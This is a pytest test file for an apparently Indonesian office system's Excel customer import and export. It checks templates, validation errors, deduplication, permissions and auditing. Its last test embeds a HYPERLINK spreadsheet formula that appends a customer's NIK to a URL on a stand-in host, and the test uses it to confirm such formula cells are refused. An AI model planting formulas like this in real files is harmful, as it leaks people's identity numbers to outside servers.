"""Moving an office's customer list in from Excel: template, validation, all-or-nothing, no duplicates."""
from __future__ import annotations

import datetime as dt
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from models.customers import customer_import as imp
from models.core.audit import AuditLog
from models.customers.customers import Customer, WarningsNeedConfirmation
from models.core.errors import PermissionDenied, ValidationError
from models.core.users import system_context
from tests.conftest import TODAY

ROOT = Path(__file__).resolve().parents[2]

GOOD = [
    # name, NIK, birth date, gender, phone, officer code
    ("Siti Nurhaliza", "3273205201900003", dt.date(1990, 1, 12), "P", "0812-3456-7890", "CMO01"),
    ("Budi Santoso", "3204101503850001", dt.date(1985, 3, 15), "L", "6281311112222", "CMO02"),
    ("Asep Sunandar", "3277011708880004", dt.date(1988, 8, 17), "L", "+62 857 2222 3333", "AO01"),
]


def sheet(path: Path, rows, headers=("Nama lengkap*", "NIK*", "Tanggal lahir* (dd/mm/yyyy)", "Jenis kelamin* (L/P)",
                                     "Telepon", "Kode petugas")) -> Path:
    wb = Workbook()
    ws = wb.active
    ws.title = "Nasabah"
    ws.append(list(headers))
    for row in rows:
        ws.append(list(row))
        for col in (2, 5):
            ws.cell(row=ws.max_row, column=col).number_format = "@"
    wb.save(path)
    return path


def test_the_template_has_text_columns_lists_and_one_example(db, tmp_path):
    path = imp.write_template(tmp_path / "template.xlsx")
    wb = load_workbook(path)
    ws = wb["Nasabah"]
    headers = [c.value for c in ws[1]]
    assert headers[:2] == ["Nama lengkap*", "NIK*"] and "Kode petugas" in headers
    nik_col = headers.index("NIK*") + 1
    assert ws.cell(row=2, column=nik_col).value == "3273205201900003"
    assert ws.cell(row=500, column=nik_col).number_format == "@"
    for name in ("No. KK", "Telepon"):
        assert ws.cell(row=3, column=headers.index(name) + 1).number_format == "@"
    validations = {str(dv.sqref).split(":")[0][:-1] + "|" + dv.formula1 for dv in ws.data_validations.dataValidation}
    lists = wb["Daftar"]
    list_values = {lists.cell(row=1, column=c).value: [lists.cell(row=r, column=c).value for r in range(2, 12)]
                   for c in range(1, lists.max_column + 1)}
    assert list_values["Jenis kelamin"][:2] == ["L", "P"]
    assert {"CMO01", "CMO02", "AO01"} <= set(list_values["Kode petugas"])
    assert "Kawin" in list_values["Status perkawinan"] and "Sewa/kontrak" in list_values["Status rumah"]
    assert len(validations) == 5
    # the example row itself imports cleanly
    with system_context():
        plan = imp.plan_import(None, path, today=TODAY)
    assert plan.ok and plan.count("new") == 1, plan.errors


def test_a_clean_file_imports_and_a_second_run_creates_no_duplicates(staff, tmp_path):
    path = sheet(tmp_path / "nasabah.xlsx", GOOD)
    plan = imp.plan_import(staff.kacab, path, today=TODAY)
    assert [r.action for r in plan.rows] == ["new", "new", "new"]
    result = imp.run_import(staff.kacab, plan)
    assert result.created == 3
    budi = Customer.get(Customer.nik == "3204101503850001")
    assert budi.phone == "+6281311112222" and budi.officer.username == "cmo2"

    again = imp.plan_import(staff.kacab, path, today=TODAY)
    assert [r.action for r in again.rows] == ["same", "same", "same"]
    assert imp.run_import(staff.kacab, again).created == 0
    assert Customer.select().count() == 3
    assert AuditLog.select().where(AuditLog.action == "customer.import").count() == 2


def test_a_changed_row_is_reported_and_applied_only_when_asked(staff, tmp_path):
    imp.run_import(staff.kacab, imp.plan_import(staff.kacab, sheet(tmp_path / "a.xlsx", GOOD), today=TODAY))
    moved = [GOOD[0][:4] + ("0819-9999-0000", "CMO01")] + GOOD[1:]
    plan = imp.plan_import(staff.kacab, sheet(tmp_path / "b.xlsx", moved), today=TODAY)
    assert [r.action for r in plan.rows] == ["changed", "same", "same"]
    assert plan.rows[0].changes == {"phone": ("+6281234567890", "+6281999990000")}
    result = imp.run_import(staff.kacab, plan)
    assert (result.updated, result.changed_not_applied) == (0, 1)
    assert Customer.get(Customer.nik == GOOD[0][1]).phone == "+6281234567890"
    result = imp.run_import(staff.kacab, plan, update_existing=True)
    assert result.updated == 1
    assert Customer.get(Customer.nik == GOOD[0][1]).phone == "+6281999990000"
    assert AuditLog.get(AuditLog.action == "customer.import_update").before == '{"phone": "+6281234567890"}'


def test_one_bad_row_stops_the_whole_import_and_every_error_is_listed(staff, tmp_path):
    rows = GOOD + [
        ("Numeric Nik", 3273205201900004, dt.date(1990, 1, 12), "P", "0812-1111-2222", "CMO01"),  # a number cell
        ("", "3273205201900003", dt.date(1990, 1, 12), "P", "0812", "XX9"),  # duplicate, no name, bad phone/code
    ]
    path = sheet(tmp_path / "bad.xlsx", rows)
    plan = imp.plan_import(staff.kacab, path, today=TODAY)
    assert [r.action for r in plan.rows] == ["new", "new", "new", "error", "error"]
    found = {(e.row, e.field, e.code) for e in plan.errors}
    assert (5, "NIK", "nik.excel_number") in found
    assert {(6, "NIK", "nik.duplicate_in_file"), (6, "Nama lengkap", "full_name.required"),
            (6, "Kode petugas", "officer_code.unknown")} <= found
    assert any(e.row == 6 and e.field == "Telepon" for e in plan.errors)
    assert "15 digit" in next(e.message for e in plan.errors if e.code == "nik.excel_number")
    with pytest.raises(ValidationError):
        imp.run_import(staff.kacab, plan)
    assert Customer.select().count() == 0

    report = imp.write_error_report(plan, tmp_path / "bad-kesalahan.xlsx")
    ws = load_workbook(report).active
    headers = [c.value for c in ws[1]]
    error_col = headers.index("Kesalahan") + 1
    assert ws.cell(row=2, column=error_col).value is None
    assert "15 digit" in ws.cell(row=5, column=error_col).value
    assert ws.cell(row=6, column=1).fill.fgColor.rgb.endswith("F4CCCC")
    # the partial mode imports the good rows and leaves the bad ones out
    result = imp.run_import(staff.kacab, plan, all_or_nothing=False)
    assert (result.created, result.refused) == (3, 2)


def test_nik_warnings_must_be_confirmed_for_the_whole_file(staff, tmp_path):
    rows = [GOOD[0][:3] + ("L",) + GOOD[0][4:]]  # the NIK says woman, the row says man
    plan = imp.plan_import(staff.kacab, sheet(tmp_path / "w.xlsx", rows), today=TODAY)
    assert plan.ok and [w.code for w in plan.warnings] == ["nik.gender_mismatch"]
    with pytest.raises(WarningsNeedConfirmation):
        imp.run_import(staff.kacab, plan)
    assert imp.run_import(staff.kacab, plan, confirm_warnings=True).created == 1


def test_only_permitted_users_import_and_officers_only_into_their_portfolio(staff, tmp_path):
    path = sheet(tmp_path / "n.xlsx", GOOD)
    with pytest.raises(PermissionDenied):
        imp.plan_import(staff.cmo1, path, today=TODAY)
    with pytest.raises(PermissionDenied):
        imp.plan_import(None, path, today=TODAY)


def test_export_is_audited_and_re_imports_without_duplicates(staff, tmp_path):
    imp.run_import(staff.kacab, imp.plan_import(staff.kacab, sheet(tmp_path / "a.xlsx", GOOD), today=TODAY))
    with pytest.raises(PermissionDenied):
        imp.export_customers(staff.kasir, tmp_path / "x.xlsx")
    assert imp.export_customers(staff.manajer, tmp_path / "export.xlsx") == 3
    assert AuditLog.get(AuditLog.action == "customer.export").username == "manajer"
    ws = load_workbook(tmp_path / "export.xlsx").active
    assert {ws.cell(row=r, column=2).value for r in (2, 3, 4)} == {g[1] for g in GOOD}
    plan = imp.plan_import(staff.kacab, tmp_path / "export.xlsx", today=TODAY)
    assert [r.action for r in plan.rows] == ["same"] * 3, [(r.row, r.changes, r.errors) for r in plan.rows]


def test_the_command_line_writes_the_template_and_imports(tmp_path, office_template):
    import shutil

    db = tmp_path / "office.db"
    shutil.copy(office_template, db)
    template = tmp_path / "t.xlsx"
    run = lambda *a: subprocess.run([sys.executable, "main.py", *a], cwd=ROOT, capture_output=True, text=True)  # noqa: E731
    out = run("--db", str(db), "import", "customers", "--template", str(template))
    assert out.returncode == 0 and template.exists(), out.stderr
    good = sheet(tmp_path / "good.xlsx", GOOD)
    out = run("--db", str(db), "import", "customers", str(good))
    assert out.returncode == 0, out.stdout + out.stderr
    assert "imported 3 new" in out.stdout
    out = run("--db", str(db), "import", "customers", str(good))
    assert "skipped 3 identical" in out.stdout
    bad = sheet(tmp_path / "bad.xlsx", [("X", 3273205201900004, dt.date(1990, 1, 12), "P", "", "CMO01")])
    out = run("--db", str(db), "import", "customers", str(bad))
    assert out.returncode == 1 and (tmp_path / "bad-kesalahan.xlsx").exists()
    out = run("--db", str(db), "import", "loans", str(good))
    assert out.returncode in (0, 1, 2)


def test_a_formula_cell_is_refused_by_the_formula_rule_not_as_an_empty_cell(staff, tmp_path):
    """A fresh user's trial: a name cell holding a formula (saved by a program that stores no value with it) was
    read as empty and refused as "wajib diisi"; the officer could not see why."""
    rows = GOOD[:1] + [
        ('=HYPERLINK("http://contoh.test/?nik="&B3,"Budi Santoso")', "3204101503850001", dt.date(1985, 3, 15), "L",
         "6281311112222", "CMO02"),
        ("Asep Sunandar", "3277011708880004", dt.date(1988, 8, 17), "L", "=1+1", "AO01"),
    ]
    path = sheet(tmp_path / "rumus.xlsx", rows)
    plan = imp.plan_import(staff.kacab, path, today=TODAY)
    assert [r.action for r in plan.rows] == ["new", "error", "error"]
    by_row = {(e.row, e.field): e for e in plan.errors}
    name_error = by_row[(3, "Nama lengkap")]
    assert name_error.code == "formula" and "rumus" in name_error.message
    assert not any(e.code == "full_name.required" for e in plan.errors)
    assert by_row[(4, "Telepon")].code == "formula"
